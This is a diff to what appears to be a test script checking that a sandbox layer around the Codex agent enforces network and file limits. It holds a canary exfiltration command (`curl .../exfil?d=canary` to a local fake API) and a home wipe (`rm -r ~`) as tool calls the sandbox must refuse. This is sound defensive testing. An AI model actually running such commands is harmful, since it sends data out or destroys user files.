@@ -63,6 +63,7 @@ def main():
               "secret", "home", "project"):
         ap.add_argument("--" + a, required=True)
     ap.add_argument("--rc", type=int, required=True)
+    ap.add_argument("--port", type=int, required=True, help="the fake API's port")
     a = ap.parse_args()
 
     rows = json.load(open(a.audit_json))
@@ -196,6 +197,34 @@ def main():
           "the home wipe `rm -r ~` was refused by hard deny, HOME intact", *[row_line(x) for x in wipe_under])
     check(hd and "warden: refused" in o_wipe and (hd[0].get("reason") or "#") in o_wipe,
           "the model's tool output for `rm -r ~` carries warden's reason", "      %r" % short(o_wipe, 200))
+
+    # -- the network -----------------------------------------------------------------------
+    dest = "127.0.0.1:%d" % a.port
+    connects = [r for r in rows if r["kind"] == "connect" and dest in r["summary"]]
+    own = [r for r in connects if r["decision"] == "allow"]
+    check(
+        own and all(r["source"] == "harness" for r in own),
+        "Codex reached its API (%s) by its profile only (connect rows allow/harness)" % dest,
+        *[row_line(r) for r in own[:3]] or ["      (no allowed connect row)"],
+    )
+    curl_cmd = "curl -s -m 5 http://127.0.0.1:%d/exfil?d=canary" % a.port
+    curl = call_rows(curl_cmd)
+    curl_under = [x for r in curl for x in under(r)]
+    refused_connects = [x for x in curl_under if x["kind"] == "connect" and x["decision"] == "deny"
+                        and dest in x["summary"]]
+    allowed_connects = [x for x in curl_under if x["kind"] == "connect" and x["decision"] == "allow"]
+    refused_exec = refusing and any(x["kind"] == "exec" and x["decision"] == "deny" for x in curl_under)
+    check(
+        curl and not allowed_connects and (refused_connects or refused_exec),
+        "tool call `curl http://%s/exfil...`: %s" % (
+            dest, "its connect refused, with a row naming " + dest if refused_connects else "its exec refused (%s)" % a.tier),
+        *[row_line(x) for x in curl + curl_under] or ["      (no tool-call row for curl)"],
+    )
+    if not refusing:
+        check(refused_connects, "under --tier %s the curl ran and its connect to %s was refused" % (a.tier, dest),
+              *[row_line(x) for x in curl_under])
+    exfil = [r for r in reqs if "/exfil" in str(r.get("path"))]
+    check(not exfil, "the fake API never got the tool call's /exfil request", *["      GOT %s" % r["path"] for r in exfil])
 
     # -- the secret -----------------------------------------------------------------------
     if refusing:
